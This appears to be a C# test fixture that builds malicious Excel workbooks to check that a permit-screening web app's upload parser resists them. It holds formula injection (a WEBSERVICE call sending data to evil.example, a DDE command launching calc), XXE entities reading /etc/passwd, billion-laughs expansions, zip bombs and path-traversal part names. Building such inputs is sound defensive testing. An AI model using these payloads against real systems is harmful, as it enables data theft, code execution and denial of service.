using System.Text;
using static PermitScreen.Web.Tests.Hostile.Packed;

namespace PermitScreen.Web.Tests.Hostile;

/// <summary>Workbooks that are packed by hand, part by part.</summary>
internal static class HostileWorkbooks
{
    /// <summary>Kind, name, bytes.</summary>
    public static IEnumerable<(string Kind, string Name, byte[] Content)> All()
    {
        foreach (var (name, formula) in ((string, string)[])
            [
                ("hyperlink", "HYPERLINK(\"http://evil.example\",\"x\")"), ("web service", "WEBSERVICE(\"http://evil.example/?\"&amp;A2)"), ("DDE", "cmd|'/C calc'!A0"), ("other workbook", "[1]Sheet1!$A$1"), ("other file", "'\\\\evil.example\\share\\[x.xlsx]S'!A1"),
                ("itself", "A2"), ("long", string.Concat(Enumerable.Repeat("1+", 20_000)) + "1"), ("deep", new string('(', 20_000)), ("array", "SUM(A1:XFD1048576)"),
            ])
        {
            yield return ("formula cells", name, Book(Sheet(Head, $"<row r=\"2\"><c r=\"A2\" t=\"str\"><f>{formula}</f><v>W-1</v></c><c r=\"B2\"><f>{formula}</f></c><c r=\"G2\"><f>{formula}</f><v>9</v></c></row>")));
        }

        yield return ("external links", "workbook", Book(Sheet(Head, Row), ("xl/externalLinks/externalLink1.xml", $"<externalLink xmlns=\"{Main}\"><externalBook r:id=\"rId1\" xmlns:r=\"{Relations}\"/></externalLink>"), ("xl/externalLinks/_rels/externalLink1.xml.rels", Rels(("rId1", "externalLinkPath", "http://evil.example/x.xlsx", true)))));
        yield return ("external links", "sheet elsewhere", Book(Sheet(Head, Row), relations: Rels(("rId1", "worksheet", "http://evil.example/sheet.xml", true))));
        yield return ("external links", "sheet by file", Book(Sheet(Head, Row), relations: Rels(("rId1", "worksheet", "file:///etc/passwd", true))));
        yield return ("external links", "sheet above", Book(Sheet(Head, Row), relations: Rels(("rId1", "worksheet", "../../../../etc/passwd", false))));
        yield return ("external links", "image", Book(Sheet(Head, Row), ("xl/drawings/_rels/drawing1.xml.rels", Rels(("rId1", "image", "http://evil.example/x.png", true)))));
        yield return ("macros", "VBA", Book(Sheet(Head, Row), ("xl/vbaProject.bin", new string('\u0001', 4000))));
        yield return ("macros", "Excel 4", Book(Sheet(Head, Row), ("xl/macrosheets/sheet1.xml", Sheet("<row r=\"1\"><c r=\"A1\"><f>EXEC(\"calc\")</f></c></row>"))));
        yield return ("macros", "ActiveX", Book(Sheet(Head, Row), ("xl/activeX/activeX1.bin", "x"), ("customUI/customUI.xml", "<customUI onLoad=\"x\"/>")));

        foreach (var (name, declaration) in ((string, string)[])
            [
                ("file", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"), ("net", "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\">"), ("parameter", "<!DOCTYPE x [<!ENTITY % e SYSTEM \"http://evil.example/x\"> %e;]>"),
                ("laughs", "<!DOCTYPE x [<!ENTITY a \"ha\">" + string.Concat(Enumerable.Range(1, 12).Select(i => $"<!ENTITY {(char)('a' + i)} \"{string.Concat(Enumerable.Repeat($"&{(char)('a' + i - 1)};", 10))}\">")) + "]>"),
            ])
        {
            var text = name == "laughs" ? "&m;" : "&e;";
            yield return ("XML entities", name, Book(declaration + Sheet(Head, Row.Replace("城东锅炉房", text, StringComparison.Ordinal))));
            yield return ("XML entities", name + " in the texts", Book(Sheet(Head, Row), ("xl/sharedStrings.xml", declaration + $"<sst xmlns=\"{Main}\"><si><t>{text}</t></si></sst>")));
        }

        yield return ("zip bombs", "blank", Book(Sheet(Head, Row) + new string(' ', 300_000_000)));
        yield return ("zip bombs", "rows", Book(Sheet(Head, Many(250_000, "<row><c t=\"inlineStr\"><is><t>x</t></is></c></row>"))));
        yield return ("zip bombs", "one text", Book(Sheet(Head, Texts(2, new string('x', 40_000_000)))));
        yield return ("zip bombs", "shared texts", Book(Sheet(Head, Row), ("xl/sharedStrings.xml", $"<sst xmlns=\"{Main}\">" + Many(3_000_000, "<si><t>xxxxxxxxxx</t></si>") + "</sst>")));
        yield return ("zip bombs", "many parts", Book(Sheet(Head, Row), [.. Enumerable.Range(0, 20_000).Select(i => ($"xl/x{i}.xml", "<x/>"))]));
        yield return ("zip bombs", "zips in zips", Zip(("xl/workbook.xml", Encoding.Latin1.GetString(Zip(("a", Encoding.Latin1.GetString(Zip(("b", new string('0', 10_000_000))))))))));

        foreach (var (name, sheet) in ((string, string)[])
            [
                ("16384", "<row r=\"1\">" + Cells(16_384, "c") + "</row>"), ("100,000", "<row r=\"1\">" + Many(100_000, "<c t=\"inlineStr\"><is><t>c</t></is></c>") + "</row>"), ("far column", Head + "<row r=\"2\"><c r=\"XFD2\" t=\"inlineStr\"><is><t>x</t></is></c></row>"),
                ("beyond", Head + "<row r=\"2\"><c r=\"ZZZZZZZ2\" t=\"inlineStr\"><is><t>x</t></is></c></row>"), ("far row", Head + "<row r=\"1048576\"><c r=\"A1048576\"><v>1</v></c></row>"), ("beyond the last row", Head + "<row r=\"4294967295\"><c r=\"A4294967295\"><v>1</v></c></row>"),
                ("row 0", "<row r=\"0\"><c r=\"A0\"><v>1</v></c></row>" + Head), ("row -1", "<row r=\"-1\"><c r=\"A-1\"><v>1</v></c></row>" + Head), ("backwards", Texts(5, "x") + Texts(2, "y") + Head), ("twice", Head + Row + Row + Head),
                ("no place", Head + "<row><c><v>1</v></c></row>"), ("nonsense place", Head + "<row r=\"x\"><c r=\"?!\"><v>1</v></c></row>"),
            ])
        {
            yield return ("columns and rows", name, Book(Sheet(sheet)));
        }

        foreach (var (name, cell) in ((string, string)[])
            [
                ("text that is none", "<c r=\"G2\" t=\"s\"><v>99999</v></c>"), ("negative text", "<c r=\"G2\" t=\"s\"><v>-1</v></c>"), ("unknown type", "<c r=\"G2\" t=\"zz\"><v>1</v></c>"), ("error", "<c r=\"G2\" t=\"e\"><v>#REF!</v></c>"), ("infinite", "<c r=\"G2\"><v>1E999</v></c>"),
                ("no number", "<c r=\"G2\"><v>nine</v></c>"), ("style that is none", "<c r=\"G2\" s=\"999\"><v>9</v></c>"), ("date far off", "<c r=\"G2\" t=\"d\"><v>99999-99-99</v></c>"), ("digits", $"<c r=\"G2\"><v>{new string('9', 5000)}</v></c>"), ("rich", "<c r=\"G2\" t=\"inlineStr\"><is>" + Many(20_000, "<r><t>9</t></r>") + "</is></c>"),
                ("nested", "<c r=\"G2\" t=\"inlineStr\"><is>" + Many(20_000, "<x>") + Many(20_000, "</x>") + "</is></c>"),
            ])
        {
            yield return ("cells", name, Book(Sheet(Head, "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>W-1</t></is></c>" + cell + "</row>")));
        }

        foreach (var (name, merges) in ((string, string)[])[("all", "A1:XFD1048576"), ("crossing", "A1:B2\"/><mergeCell ref=\"B2:C3"), ("nonsense", "?:!"), ("many", string.Join("\"/><mergeCell ref=\"", Enumerable.Range(3, 60_000).Select(i => $"A{i}:B{i}")))])
            yield return ("merged cells", name, Book(Sheet(Head + Row, after: $"<mergeCells><mergeCell ref=\"{merges}\"/></mergeCells>")));

        foreach (var name in (string[])["../../../../tmp/owned", "/etc/cron.d/owned", "C:\\windows\\owned", "xl/worksheets/../../../../owned", "\u0000", "<script>alert(1)</script>", new('n', 60_000)])
            yield return ("names of parts", name.Length <= 30 ? name : "long", Book(Sheet(Head, Row), (name, "x")));

        var whole = Book(Sheet(Head, Row));
        foreach (var length in (int[])[4, 30, 100, whole.Length / 2, whole.Length - 22, whole.Length - 1])
            yield return ("damaged", $"cut at {length}", whole[..length]);
        foreach (var at in Enumerable.Range(0, 24))
            yield return ("damaged", $"byte {at}", Flipped(whole, at * (whole.Length / 24)));
        yield return ("damaged", "no workbook", Zip(("x", "y")));
        yield return ("damaged", "no XML", Book("this is no XML"));
        yield return ("damaged", "no sheet", Book(Sheet(Head, Row), relations: Rels(("rId9", "worksheet", "worksheets/none.xml", false))));
        yield return ("damaged", "old XLS", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[2000]]);
        foreach (var text in HostileTexts.All)
            yield return ("script in every cell", text.Length <= 30 ? text : text[..30], Book(Sheet(Texts(1, [.. Headings.Take(7), text]), Texts(2, [.. Enumerable.Repeat(text, Headings.Length)]))));
    }

    private static string Cells(int count, string text) => Many(count, $"<c t=\"inlineStr\"><is><t>{text}</t></is></c>");

    private static byte[] Flipped(byte[] bytes, int at)
    {
        byte[] copy = [.. bytes];
        copy[at] ^= 0x55;
        return copy;
    }
}
